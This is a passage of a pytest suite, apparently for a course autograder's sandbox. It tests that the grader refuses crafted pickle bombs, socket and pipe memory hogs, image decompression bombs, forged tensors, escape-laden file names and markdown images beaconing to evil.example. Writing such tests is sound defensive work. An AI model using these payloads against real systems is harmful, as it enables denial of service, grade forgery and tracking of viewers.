    source, out = zipfile.ZipFile(io.BytesIO(buffer.getvalue())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for info in source.infolist():
            if not info.filename.endswith("/data.pkl"):
                archive.writestr(info.filename, source.read(info.filename))
        for name, data in pickles.items():
            archive.writestr(name.replace("*", source.infolist()[0].filename.split("/")[0]), data)
    return out.getvalue()


def _nones(n: int) -> bytes:
    return b"\x80\x02]q\x00(" + b"N" * n + b"e."  # [None] * n, one byte an element


def test_a_checkpoint_of_millions_of_opcodes_is_refused_before_torch_load(monkeypatch):
    """a3 reads every checkpoint the submission wrote with torch.load(weights_only=True) in the trusted
    grader, outside any time limit. Its unpickler takes about a microsecond an opcode: a 100 MB
    checkpoint of [None] * 100 million held the grader for a minute and a GB, for each file each check
    reads. Such a file is refused before it is unpickled; a real checkpoint still loads."""
    from pathlib import Path

    import torch

    from reference.grading.local import load_module

    a3 = load_module(Path(__file__).resolve().parent / "autograders" / "test_a3_save_every_10_epochs.py")
    bomb = _torch_zip({"*/data.pkl": _nones(6_100_000)})
    loads = []
    real_load = torch.load
    monkeypatch.setattr(torch, "load", lambda *args, **kwargs: loads.append(1) or real_load(*args, **kwargs))
    problem, loaded = a3._load("ckpt_10.pt", bomb)
    assert loads == [] and loaded is None and problem.startswith("`ckpt_10.pt` holds more than 2,000,000 values"), problem
    import io

    buffer = io.BytesIO()
    torch.save({"epoch": 10, "G": {"w": torch.ones(3)}}, buffer)
    problem, loaded = a3._load("ckpt_10.pt", buffer.getvalue())
    assert problem is None and loaded["epoch"] == 10 and loads == [1]


def test_a_reply_hiding_a_long_pickle_beside_a_short_one_is_refused_before_torch_load(monkeypatch):
    """The opcode count looked at a reply's data.pkl only when there was exactly one: a second one
    (which torch.load may read) went uncounted."""
    import reference.grading.proxy as proxy

    reply = _torch_zip({"*/data.pkl": _nones(6_100_000), "other/data.pkl": _nones(1)})
    loads = []
    monkeypatch.setattr(proxy.torch, "load", lambda *args, **kwargs: loads.append(1))
    with pytest.raises(proxy.ProtocolError, match="more than 2,000,000 values"):
        proxy.decode(reply)
    assert loads == []


# ---------------------------------------------------------------------------------------------
# Memory no process holds: socket buffers
# ---------------------------------------------------------------------------------------------

SOCKETS = """
    import socket, time
    carrier, pairs, held = socket.socketpair(), [], 0
    for _ in range({pairs}):
        a, b = socket.socketpair()
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)  # the kernel gives twice net.core.wmem_max
        a.setblocking(False)
        while True:
            try:
                held += a.send(b"x" * 65536)
            except BlockingIOError:
                break
        if {in_flight}:  # sent over another socket and closed: no descriptor of any process shows them
            socket.send_fds(carrier[0], [b"x"], [a.fileno(), b.fileno()])
            a.close()
            b.close()
        else:
            pairs.append((a, b))
    print("held", held >> 20, "MB")
    time.sleep(3)
    print("still running")
"""


@needs_sandbox
@pytest.mark.parametrize("in_flight", [False, True], ids=["kept", "in_flight"])
def test_memory_held_in_socket_buffers_counts_against_the_memory_limit(tmp_path, monkeypatch, in_flight: bool):
    """A socket pair whose send buffer is filled and never read keeps that memory in the kernel, in
    no process: 1.5 GB held that way passed a 1 GB limit unnoticed (with 20,000 descriptors a process
    and 64 processes, the host's memory: the classmates graded beside it, the grader itself). Sockets
    sent over another socket and closed (in flight) are in no descriptor table, and count too."""
    from conftest import attack_course
    from reference.grading.runner import session_for
    from reference.grading.sandbox import Limits

    with open("/proc/sys/net/core/wmem_max") as fh:
        per_pair = 2 * int(fh.read())
    limit_mb = 1024
    pairs = min(6000, 3 * limit_mb * 2**20 // (2 * per_pair) + 1)  # about 1.5 times the limit held
    root = attack_course(tmp_path, monkeypatch)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(textwrap.dedent(SOCKETS.format(pairs=pairs, in_flight=in_flight)))]
    nbformat.write(nb, root / "attack.ipynb")
    with session_for(root / "attack.ipynb", "attack", root, limits=Limits(wall_s=90, check_s=30, memory_mb=limit_mb)) as session:
        stopped, cell = list(session.stopped), session.cells_output.get("0", {})
    assert len(stopped) == 1 and f"more than {limit_mb:,} MB of memory" in stopped[0], (stopped, cell)


def test_pipes_filled_and_never_read_count_against_the_memory_limit():
    """A pipe keeps what is written to it in the kernel, in no process; with 20,000 descriptors a
    process and 64 processes, pipes held gigabytes past the memory limit. Each open pipe now counts
    (once, though both its ends are open)."""
    import os

    from reference.grading.sandbox import PAGE, Limits, Worker

    watcher = object.__new__(Worker)  # only the look at memory no process holds, on this process
    watcher.sandboxed, watcher.limits, watcher.scratch_dev = False, Limits(), None
    before = watcher._held_bytes([os.getpid()])
    ends = [os.pipe() for _ in range(100)]
    try:
        for _, write_end in ends:
            os.set_blocking(write_end, False)
            try:
                while True:
                    os.write(write_end, b"x" * 4096)
            except BlockingIOError:
                pass
        assert watcher._held_bytes([os.getpid()]) - before >= 100 * 8 * PAGE  # at least what each held
    finally:
        for pair in ends:
            for fd in pair:
                os.close(fd)


def test_an_image_output_claiming_billions_of_pixels_is_left_out_of_the_feedback():
    """The feedback shows a cell's PNG outputs in the viewer's browser (the instructor's formgrader):
    a 2 MB PNG of one colour can claim 50,000 x 50,000 pixels, 10 GB once unpacked there."""
    import base64
    import io
    import struct
    import zlib

    from PIL import Image

    from reference.grading.runner import _clean_outputs

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    side = 50_000
    rows = zlib.compress(b"\0" * (side // 8 + 1) * 64, 9)  # only the first rows: the header is what matters
    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    honest = io.BytesIO()
    Image.new("RGB", (432, 288)).save(honest, format="PNG")
    outputs = [{"output_type": "display_data", "data": {"image/png": base64.b64encode(png).decode()}} for png in (bomb, honest.getvalue())]
    kept = _clean_outputs(outputs)
    assert [out["data"].get("image/png") for out in kept] == [outputs[1]["data"]["image/png"]]


def run_cells(tmp_path, monkeypatch, sources: list[str]) -> tuple[list[str], dict]:
    """Run `sources` as a submission's cells in a worker (sandboxed where bubblewrap can): (why its worker was
    stopped, {cell index: its record})."""
    from conftest import attack_course
    from reference.grading.runner import session_for
    from reference.grading.sandbox import Limits, sandbox_problem

    root = attack_course(tmp_path, monkeypatch)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(source) for source in sources]
    nbformat.write(nb, root / "attack.ipynb")
    with session_for(root / "attack.ipynb", "attack", root, limits=Limits(wall_s=120), sandbox=sandbox_problem() is None) as session:
        return list(session.stopped), session.cells_output


LONG_TRACEBACK = """
err = ValueError("v" * 300)
for _ in range(8):
    err.add_note("n" * 3000)  # the last 8 lines of the traceback the worker sends, each cut at 2,000 characters
raise err
"""


def test_tracebacks_count_toward_the_outputs_a_graded_notebook_keeps(tmp_path, monkeypatch):
    """What the cells print and draw is kept up to MAX_OUTPUTS (20 MB) for the whole notebook, but each cell's traceback
    was kept besides (8 lines of 2,000 characters): 1,400 cells that raise, a notebook of 300 KB, made a record of 22 MB,
    and 2,000 would make 32 MB, in the grader's memory, the results file and the gradebook's notebook. Tracebacks count
    toward the same budget; past it a cell's error keeps its exception's name and says the rest was left out."""
    from reference.grading.runner import MAX_OUTPUTS

    stopped, cells = run_cells(tmp_path, monkeypatch, [LONG_TRACEBACK] * 1400)
    assert not stopped and len(cells) == 1400, stopped
    assert all(cell["error"]["ename"] == "ValueError" for cell in cells.values())
    kept = sum(len(json.dumps(cell["error"])) + len(json.dumps(cell["outputs"])) for cell in cells.values())
    assert kept < MAX_OUTPUTS + 1400 * 200, kept  # the budget, and each cell's name and JSON around it
    assert "output left out" in cells["1399"]["error"]["traceback"][0], cells["1399"]["error"]
    assert "n" * 1000 in "".join(cells["0"]["error"]["traceback"])  # the first cells' tracebacks as they were


def _one_colour_png(side: int) -> bytes:
    """A whole PNG of side x side pixels of one bit, every row stored (a few KB: what a browser decodes in full)."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zlib.compress(b"\0" * (side // 8 + 1) * side, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


FIGURES_BY_THE_THOUSAND = """
import sys, types
png = {png!r}
class Figure:
    def savefig(self, buffer, **kwargs):
        buffer.write(png)
pyplot = types.ModuleType("matplotlib.pyplot")  # what the worker asks for the cell's figures
pyplot.get_fignums = lambda: list(range(20))
pyplot.figure = lambda number: Figure()
pyplot.close = lambda which: None
sys.modules["matplotlib.pyplot"] = pyplot
"""


def test_a_notebooks_image_outputs_are_bounded_in_pixels_together(tmp_path, monkeypatch):
    """Each image output may have 4096 x 4096 pixels (MAX_PIXELS), but a notebook's were not bounded together: a
    4096 x 4096 PNG of one colour takes 3 KB, and 1,200 of them (a pyplot of the submission's own that hands the worker
    20 such figures a cell, 4 MB of outputs) would unpack into 80 GB in the browser of whoever opens the graded
    notebook (the instructor's formgrader). A notebook's images are kept up to MAX_NOTEBOOK_PIXELS together; each
    one past it is a line saying so."""
    from reference.grading.runner import MAX_NOTEBOOK_PIXELS, MAX_PIXELS, _png_pixels

    png = _one_colour_png(4096)
    assert len(png) < 4000 and 4096 * 4096 == MAX_PIXELS
    stopped, cells = run_cells(tmp_path, monkeypatch, [FIGURES_BY_THE_THOUSAND.format(png=png)] + ["1"] * 60)
    assert not stopped and len(cells) == 61, stopped
    outputs = [out for index in sorted(cells, key=int) for out in cells[index]["outputs"]]
    images = [out["data"]["image/png"] for out in outputs if "image/png" in out.get("data", {})]
    assert len(images) == MAX_NOTEBOOK_PIXELS // MAX_PIXELS and sum(map(_png_pixels, images)) <= MAX_NOTEBOOK_PIXELS, len(images)
    notes = [out["text"] for out in outputs if "image left out" in out.get("text", "")]
    assert len(notes) == 61 * 20 - len(images), len(notes)
    assert notes[0].startswith(f"[image left out: this notebook's images add up to more than the {MAX_NOTEBOOK_PIXELS:,} pixels")


# ---------------------------------------------------------------------------------------------
# Images in markdown cells: nothing from another server, nothing over an image output's limits
# ---------------------------------------------------------------------------------------------


def _png(width: int, height: int) -> bytes:
    """A PNG whose header claims width x height pixels of one bit (only its first rows stored)."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zlib.compress(b"\0" * (width // 8 + 1) * 16, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _b64(data: bytes) -> str:
    import base64

    return base64.b64encode(data).decode()


def _jpeg(width: int, height: int) -> bytes:
    import io

    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height)).save(out, format="JPEG")
    return out.getvalue()


REMOTE_IMAGES = {  # each tells evil.example when and where the feedback is opened (and the viewer's address)
    "markdown": 'the curve: ![my plot](http://evil.example/t.png?id=eve "t") as shown',
    "html": 'the curve: <img src="https://evil.example/t.png" width="300"> as shown',
    "protocol_relative": "the curve: <IMG SRC='//evil.example/t.png'> as shown",
    "backslashes": "the curve: <img src='\\\\evil.example\\t.png'> as shown",
    "srcset": 'the curve: <img src="curve.png" srcset="https://evil.example/t.png 2x"> as shown',
    "table_background": 'the curve: <table background="http://evil.example/t.png"><tr><td>x</td></tr></table> as shown',
    "style": 'the curve: <span style="background-image: url(http://evil.example/t.png)">x</span> as shown',
    "reference_link": "the curve: ![my plot][t] as shown\n\n[t]: http://evil.example/t.png",
    "math_style": "the curve: $\\style{background: url(http://evil.example/t.png)}{x}$ as shown",
    "by_path": "the curve: <img src='/logout'> ![my plot](../../../logout?evil.example) as shown",  # the formgrader's server
}
# a real tag (not a link, which loads nothing until clicked), CSS naming evil.example, or MathJax's \style
# outside a <pre> (which MathJax leaves alone)
LOADS_REMOTE = re.compile(r"<(?!a\s)[a-z][^>]*evil\.example|url\([^)]*evil\.example|\\style", re.I)


@pytest.mark.parametrize("attack", sorted(REMOTE_IMAGES))
def test_a_remote_image_in_markdown_is_not_loaded_where_the_feedback_is_viewed(attack: str):
    """An image from another server in a student's markdown cell is fetched by the browser of whoever
    opens the feedback or the formgrader: it tells that server when, how often and from which address
    (the instructor's). It becomes a link to the image (or, where it cannot be picked out, the cell is
    shown as text); the rest of the cell is left as written. An image by path is fetched from the
    server that shows the page, in the formgrader the instructor's Jupyter server with their session
    (GET /logout logs them out): it becomes text."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(REMOTE_IMAGES[attack])]
    filled = fill(nb, {"cells": {}, "tests": {}})
    body = re.sub(r"<pre>.*?</pre>", "", _render(filled), flags=re.S)
    assert not LOADS_REMOTE.search(body), LOADS_REMOTE.search(body)
    source = filled.cells[0].source
    assert source.startswith(("the curve: ", "[The grader shows this cell as text: it holds ",
                              "[The grader shows this cell as text: its HTML (a style attribute) could cover",
                              "[The grader shows this cell as text: its HTML (a MathJax style command in its math) could cover"))
    assert "evil.example" in source or "[left out: a style that loads a file]" in source
    assert not re.search(r"<img[^>]*logout", body)  # the instructor's Jupyter server, with their session: logged out
    assert "as shown" in source


def test_an_image_in_markdown_over_an_outputs_limits_is_left_out_and_honest_ones_are_kept():
    """A data: URL or attachment in a markdown cell is drawn by the viewer's browser as an image
    output is, but had no limits: a PNG of a few kilobytes claiming 50,000 x 50,000 pixels (10 GB once
    unpacked there), a 3 MB attachment (a cell is not limited in its attachments' size), a JPEG claiming 60,000 x 60,000, an SVG. Each is left out with a
    line saying why, as image outputs are; PNG and JPEG images within the limits are kept, and the
    rest of each cell byte for byte."""
    from reference.grading.runner import MAX_IMAGE

    bomb, small, jpeg = _b64(_png(50_000, 50_000)), _b64(_png(640, 480)), _b64(_jpeg(64, 48))
    huge_jpeg = _jpeg(16, 16).replace(b"\xff\xc0\x00\x11\x08\x00\x10\x00\x10", b"\xff\xc0\x00\x11\x08\xea\x60\xea\x60")  # SOF0: 60,000 x 60,000
    assert huge_jpeg != _jpeg(16, 16)
    large = _b64(_png(640, 480) + b"\0" * MAX_IMAGE)
    attacks = [
        f"before ![bomb](data:image/png;base64,{bomb}) after",
        f'before <img src="data:image/png;base64,{bomb}"> after',
        "before ![big](attachment:large.png) after",
        f"before ![jpeg](data:image/jpeg;base64,{_b64(huge_jpeg)}) after",
        f"before ![as png](data:image/png;base64,{_b64(huge_jpeg)}) after",  # a browser goes by the bytes, not the type
        "before ![svg](data:image/svg+xml;base64,PHN2ZyB3aWR0aD0iMSIvPg==) after",
        "before ![pasted](attachment:bomb.png) after",
        "before ![pasted](attachment:drawing.svg) after",
        "before ![pasted](attachment:none.png) after",
        "before ![pasted](attachment:) after",
    ]
    honest = [
        f"a plot ![curve](data:image/png;base64,{small}) and <img src='data:image/jpeg;base64,{jpeg}'>",
        "a plot ![curve](attachment:curve.png) and <img src='attachment:curve.png'>",
    ]
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(text) for text in attacks + honest]
    nb.cells[2].attachments = {"large.png": {"image/png": large}}
    nb.cells[6].attachments = {"bomb.png": {"image/png": bomb}}
    nb.cells[7].attachments = {"drawing.svg": {"image/svg+xml": "PHN2Zy8+"}}
    nb.cells[-1].attachments = {"curve.png": {"image/png": small}, "drawing.svg": {"image/svg+xml": "PHN2Zy8+"}}
    filled = fill(nb, {"cells": {}, "tests": {}})
    for cell in filled.cells[: len(attacks)]:
        assert cell.source.startswith("before [left out: an image ") and cell.source.endswith("] after"), cell.source[:300]
        assert "attachments" not in cell
    assert "50,000 x 50,000 pixels" in filled.cells[0].source and "60,000 x 60,000 pixels" in filled.cells[3].source
    assert [cell.source for cell in filled.cells[len(attacks):]] == honest
    assert dict(filled.cells[-1].attachments) == {"curve.png": {"image/png": small}}
    body = _render(filled)
    assert bomb not in body and large not in body and _b64(huge_jpeg) not in body
    assert body.count(small) == 2 and jpeg in body


def test_an_image_in_markdown_shown_again_and_again_is_counted_each_time_it_is_shown():
    """nbconvert writes an attachment's whole base64 into each image that shows it, and a reference link's URL into each
    image that names it: a cell of 20,000 characters naming a 2 MB attachment 3,333 times (`![][a]`) renders into 6.7 GB,
    in the merge, the formgrader and the feedback (here 400 KB named 60 times: 24 MB, 10 s of the merge). A 4096 x 4096
    PNG of one colour in 3 KB, named three times, is 200 MB once decoded in the viewer's browser. Images of a notebook's
    markdown are counted where they are shown, up to MARKDOWN_IMAGE_CHARS and MAX_NOTEBOOK_PIXELS; a cell past either is
    shown as text (an attachment named too often, before it is rendered), and honest images are kept."""
    from reference.grading.bridge import MARKDOWN_IMAGE_CHARS
    from reference.grading.runner import MAX_NOTEBOOK_PIXELS

    attachment = _b64(_png(64, 64) + bytes(range(256)) * 1200)  # 400 KB: within one image's limits
    large = _one_colour_png(4096)
    assert 60 * len(attachment) > MARKDOWN_IMAGE_CHARS and 3 * 4096 * 4096 > MAX_NOTEBOOK_PIXELS >= 2 * 4096 * 4096
    small = _b64(_png(640, 480))
    cells = [
        "named 60 times: " + "![][a]" * 60 + "\n\n[a]: attachment:a.png\n",
        "shown 3 times: ![x][p] ![y][p] ![z][p]\n\n[p]: data:image/png;base64," + _b64(large) + "\n",
        "honest: ![curve](attachment:curve.png) and ![again](attachment:curve.png)",
    ]
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(text) for text in cells]
    nb.cells[0].attachments = {"a.png": {"image/png": attachment}}
    nb.cells[2].attachments = {"curve.png": {"image/png": small}}
    filled = fill(nb, {"cells": {}, "tests": {}})
    sources = [cell.source for cell in filled.cells]
    assert sources[0].startswith("[The grader shows this cell as text: its images, each counted where it is shown, would take this "
                                 f"notebook's markdown past {MARKDOWN_IMAGE_CHARS:,} characters of images"), sources[0][:300]
    assert sources[1].startswith("[The grader shows this cell as text: its images") and f"{MAX_NOTEBOOK_PIXELS:,} pixels" in sources[1]
    assert sources[2] == cells[2]
    body = _render(filled)
    assert attachment not in body and f"src=\"data:image/png;base64,{_b64(large)}" not in body and body.count(small) == 2
    assert len(body) < 2 * 2**20, len(body)


# ---------------------------------------------------------------------------------------------
# What a check quotes of the student's files: names with newlines and escape sequences
# ---------------------------------------------------------------------------------------------

NAMING_CHECK = '''"""One check that names the student's files, as a3's do ("`epoch_10.pt` is not a file written by torch.save")."""
from reference.grading import check

ASSIGNMENT = "attack"


@check(points=6)
def test_saves(submission):
    names = [str(path) for path in submission.files()]
    assert names == ["checkpoint.pt"], f"`{names[0]}` is not a checkpoint; save it as checkpoint.pt"
'''


def test_a_file_name_quoted_by_a_check_adds_no_line_to_the_feedback(tmp_path, monkeypatch):
    """A file name may hold any byte but "/" and NUL: a newline in one that a check quotes gave the
    test cell a line of the student's choosing under the real one ("a3 Saves every 10 epochs: 6/6
    points" below the true 0/6), in the graded notebook and the feedback; an escape sequence there
    colours or hides text. A message is now one printable line."""
    from conftest import attack_course
    from reference.grading.bridge import fill
    from reference.grading.runner import grade_submission
    from reference.grading.sandbox import Limits, sandbox_problem

    root = attack_course(tmp_path, monkeypatch)
    (root / "tests" / "autograders" / "test_attack.py").write_text(NAMING_CHECK)
    forged = "x\na3 Saves checkpoints: 6\u22156 points\n\x1b[8m"  # U+2215, a slash a file name may hold
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(f"open({forged!r}, 'w').close()")]
    folder = root / "submitted" / "eve"  # a folder of its own: its files are copied into scratch
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / "attack.ipynb")
    record = grade_submission(folder / "attack.ipynb", "attack", root, limits=Limits(wall_s=60, check_s=30), sandbox=sandbox_problem() is None)
    message = record["checks"]["test_saves"]["message"]
    assert record["checks"]["test_saves"]["earned"] == 0.0 and message.startswith("`x a3 Saves checkpoints: 6\u22156 points"), message
    assert message.isprintable(), message
    test_cell = nbformat.v4.new_code_cell("grade('attack', 'test_saves', globals())", metadata={"nbgrader": {"grade": True, "grade_id": "saves"}})
    graded = nbformat.v4.new_notebook()
    graded.cells = [test_cell]
    lines = [f"attack {record['checks']['test_saves']['title']}: 0/6 points - {message}"]
    filled = fill(graded, {"cells": {}, "tests": {"saves": {"lines": lines, "earned": 0.0, "points": 6.0}}})
    assert filled.cells[0].outputs[0]["text"].count("\n") == 1


# ---------------------------------------------------------------------------------------------
# Forged replies: tensors torch.load makes that the grader must not compute on
# ---------------------------------------------------------------------------------------------


@pytest.mark.filterwarnings("ignore:The PyTorch API of nested tensors:UserWarning")  # the attack builds one
def test_a_reply_of_odd_tensors_is_refused_or_plain_data():
    """torch.load(weights_only=True) makes more than dense tensors. A nested tensor raised a
    RuntimeError out of `decode` (whose contract is ProtocolError), past the channel's handling; an
    empty tensor of shape (0, 3, 40000, 40000) crossed as a few bytes, and a check's mean over its
    first dimension would take 19 GB of the trusted grader's memory. Both are refused now; a cycle is
    refused by depth; odd dtypes cross as the plain data they are (a check's arithmetic on them fails
    that check only), and the worker keeps a student's nested tensor, or numpy array of objects or
    strings, as a handle."""
    import torch

    from reference.grading.proxy import ProtocolError, decode, encode
    from reference.grading.worker import HANDLE, Worker

    nested = torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)])
    cycle: list = []
    cycle.append(cycle)
    for forged in (nested, torch.empty(0, 3, 40_000, 40_000), torch.empty(2**40, 0), cycle):
        with pytest.raises(ProtocolError):
            decode(encode({"value": forged}))
    for odd in (torch.zeros(3, dtype=torch.complex64), torch.zeros(3).to(torch.float8_e4m3fn), torch.zeros(3, dtype=torch.uint64)):
        value = decode(encode({"value": odd}))["value"]
        assert type(value) is torch.Tensor and value.dtype == odd.dtype and value.shape == (3,)
    assert decode(encode({"value": torch.empty(0, 3, 28, 28)}))["value"].shape == (0, 3, 28, 28)  # an empty batch is honest
    import numpy as np

    for kept_there in (nested, np.array([object(), None], dtype=object), np.array(["a"], dtype="U1")):  # stay in the worker
        assert set(Worker(0, 1).wire(kept_there)) == {HANDLE, "type"}


def test_a_reply_of_huge_integers_is_refused_before_a_check_does_arithmetic_on_it():
    """A forged probe reply of 255-byte integers (the largest torch.load(weights_only=True) takes), as a shape of
    thousands of them: a check's math.prod over it held the trusted grader for minutes (K=10,000: 207 s a call), and
    `gan-course autograde` has no limit on the grader's own time. Integers over 64 bits, values or dict keys, are refused
    with the reply; a 64-bit one (a seed, a count) crosses. A megabytes-long type name is cut before it is cleaned."""
    import math
    import time

    from reference.grading.checks import clean_text
    from reference.grading.proxy import ProtocolError, decode, encode

    huge = int.from_bytes(bytes(range(1, 256)), "big")
    for forged in ({"shape": [huge] * 3_000}, {"value": huge}, {huge: 1}, {"nested": [[-huge]]}):
        started = time.process_time()
        with pytest.raises(ProtocolError):  # a huge key is already refused by the pickle's cost, the others by their size
            decode(encode(forged))
        assert time.process_time() - started < 5
    with pytest.raises(ProtocolError, match="an integer of 2033 bits"):
        decode(encode({"shape": [huge] * 3_000}))
    assert decode(encode({"seed": 2**63 - 1, "shape": [64, 2]})) == {"seed": 2**63 - 1, "shape": [64, 2]}
    assert math.prod(decode(encode({"shape": [2**40, 2**20]}))["shape"]) == 2**60
    started = time.process_time()
    assert clean_text("\x1b[2J" + "x" * 50_000_000, 120) == " [2J" + "x" * 113 + "..."
    assert time.process_time() - started < 1


def test_a_reply_tensor_with_methods_of_its_own_is_refused():
    """torch.load(weights_only=True) restores a tensor's attributes (its pickled __dict__), its
    backward hooks and a Parameter's class. A forged reply whose tensor held `mean = torch.Size` made
    `answer.mean()` return what the worker chose (an empty tensor, an empty set: whatever an allowed
    global returns), in every check that calls a method of the answer, not a torch function. The
    worker sends plain tensors only; anything more is refused, and a negative view is read as the
    values it shows (numpy() refuses such a view)."""
    import io

    import torch

    from reference.grading.proxy import ProtocolError, decode, encode

    shadowed = torch.tensor([0.5, 0.25])
    shadowed.mean, shadowed.allclose, shadowed.tolist = torch.Tensor, set, torch.Size
    parameter = torch.nn.Parameter(torch.ones(2), requires_grad=False)
    hooked = _torch_zip({"*/data.pkl": b"\x80\x02}" + _unicode("value") + _stored_floats(2, b"K\x00ctorch\nSize\ns") + b"s.", "*/data/0": bytes(8)})
    assert torch.load(io.BytesIO(hooked), weights_only=True)["value"]._backward_hooks  # what the grader was given
    for forged in (encode({"value": shadowed}), encode({"value": parameter}), hooked):
        with pytest.raises(ProtocolError, match="more than its elements"):
            decode(forged)
    value = decode(encode({"value": torch._neg_view(torch.tensor([1.0, 2.0]))}))["value"]
    assert type(value) is torch.Tensor and not value.__dict__ and value.numpy().tolist() == [-1.0, -2.0]


def _forged(pickled: bytes) -> bytes:
    """torch.save's zip with `pickled` as its data.pkl (a forged reply)."""
    return _torch_zip({"*/data.pkl": pickled})


def _long(n: int) -> bytes:
    """Pickle's LONG1 opcode for int `n` >= 0."""
    data = n.to_bytes(n.bit_length() // 8 + 1, "little")
    return b"\x8a" + bytes([len(data)]) + data


def _unicode(text: str) -> bytes:
    """Pickle's BINUNICODE opcode for `text`."""
    data = text.encode("utf-8")
    return b"X" + len(data).to_bytes(4, "little") + data


def _stored_floats(n: int, hooks: bytes = b"") -> bytes:
    """Pushes torch._utils._rebuild_tensor_v2 of storage record "0" as n float32s (what torch.save
    writes), with backward hooks set by the opcodes `hooks` (SETITEMs on its OrderedDict)."""
    return (b"ctorch._utils\n_rebuild_tensor_v2\n((" + _unicode("storage") + b"ctorch\nFloatStorage\n" + _unicode("0") + _unicode("cpu")
            + b"J" + n.to_bytes(4, "little") + b"tQK\x00J" + n.to_bytes(4, "little") + b"\x85K\x01\x85\x89ccollections\nOrderedDict\n)R"
            + hooks + b"tR")


DISTINCT = "".join(chr(0x4E00 + i) for i in range(3_000))  # 3,000 distinct letters (CJK, which idna takes too): punycode's worst case, 0.2 s
MERSENNE = 2**61 - 1  # hash(k * MERSENNE) == 0 for every int k


def _nested_tuple(levels: int) -> bytes:
    """Pushes t0 = (1,) and t(k+1) = (tk, tk) through the memo (tk at memo k): a few bytes a level, 2**k leaves to hash."""
    body = b"K\x01\x85q\x00"
    for k in range(levels):
        body += b"h" + bytes([k]) + b"h" + bytes([k]) + b"\x86q" + bytes([k + 1])
    return body


# Replies of a few bytes to a few MB that torch.load(weights_only=True) turns into hours or gigabytes
# of the trusted grader's work. Each is built smaller than it would need to hurt (20,000 keys: 7 s).
COSTLY = {
    "keys_of_one_hash": lambda: _forged(b"\x80\x02}(" + b"".join(_long(k * MERSENNE) + b"N" for k in range(1, 20_001)) + b"u."),
    "key_nested_through_the_memo": lambda: _forged(b"\x80\x02" + _nested_tuple(26) + b"}h\x1aNs."),
    "bytearray_of_a_size": lambda: _forged(b"\x80\x02cbuiltins\nbytearray\n" + _long(2**28) + b"\x85R."),
    "counter_of_a_list": lambda: _forged(b"\x80\x02ccollections\nCounter\n](" + b"".join(_long(k * MERSENNE) for k in range(1, 20_001)) + b"e\x85R."),
    "set_of_a_list": lambda: _forged(b"\x80\x02c__builtin__\nset\n](" + b"".join(_long(k * MERSENNE) for k in range(1, 20_001)) + b"e\x85R."),
    "ordered_dict_built_from_pairs": lambda: _forged(
        b"\x80\x02ccollections\nOrderedDict\n)\x81](" + b"".join(_long(k * MERSENNE) + b"N\x86" for k in range(1, 20_001)) + b"eb."),
    "one_list_walked_again_and_again": lambda: _forged(
        b"\x80\x02]q\x00(" + b"K\x01" * 10_000 + b"e(c__builtin__\nset\nq\x01" + b"h\x01h\x00\x85R" * 1_000 + b"l."),
    # torch.Size.__new__(torch.Size, the list) by NEWOBJ, which no budget counted: 400 KB held 1.1 GB, 4 MB would hold 11
    "one_list_made_a_size_again_and_again": lambda: _forged(
        b"\x80\x02]q\x00(" + b"K\x01" * 10_000 + b"e](ctorch\nSize\nq\x01" + b"h\x01h\x00\x85\x81" * 1_000 + b"e."),
    # a stored tensor converted again and again (each a copy): its storage's size counts at each call
    "one_stored_tensor_converted_again_and_again": lambda: _torch_zip({
        "*/data.pkl": b"\x80\x02" + _stored_floats(10_000) + b"q\x00](ctorch._utils\n_rebuild_device_tensor_from_cpu_tensor\nq\x01"
        + b"h\x01(h\x00ctorch\nfloat64\nX\x03\x00\x00\x00cpu\x89tR" * 1_000 + b"e.",
        "*/data/0": bytes(40_000)}),
    # punycode (and idna, which uses it) takes the square of the text's length: 40,000 characters in 35 KB, 3 minutes
    "text_encoded_as_punycode": lambda: _forged(b"\x80\x02c_codecs\nencode\n" + _unicode(DISTINCT) + _unicode("punycode") + b"\x86R."),
    "bytearray_of_text_as_idna": lambda: _forged(b"\x80\x02cbuiltins\nbytearray\n" + _unicode(DISTINCT) + _unicode("IDNA") + b"\x86R."),
    # a legacy constructor allocates n elements untouched; converting them touches them all (200 bytes: 8 GB)
    "tensor_of_a_size_converted": lambda: _forged(
        b"\x80\x02ctorch._utils\n_rebuild_device_tensor_from_cpu_tensor\n(ctorch\nFloatTensor\n" + _long(2**30) + b"\x85R"
        + b"ctorch\nfloat64\nX\x03\x00\x00\x00cpu\x89tR."),
    "storage_of_a_size": lambda: _forged(b"\x80\x02ctorch.storage\nUntypedStorage\n" + _long(2**33) + b"\x85\x81."),
    "tensor_of_a_size_through_rebuild_from_type": lambda: _forged(
        b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(ctorch\nTensor\nctorch\nTensor\n" + _long(2**30) + b"\x85NtR."),
}


@pytest.mark.parametrize("attack", sorted(COSTLY))
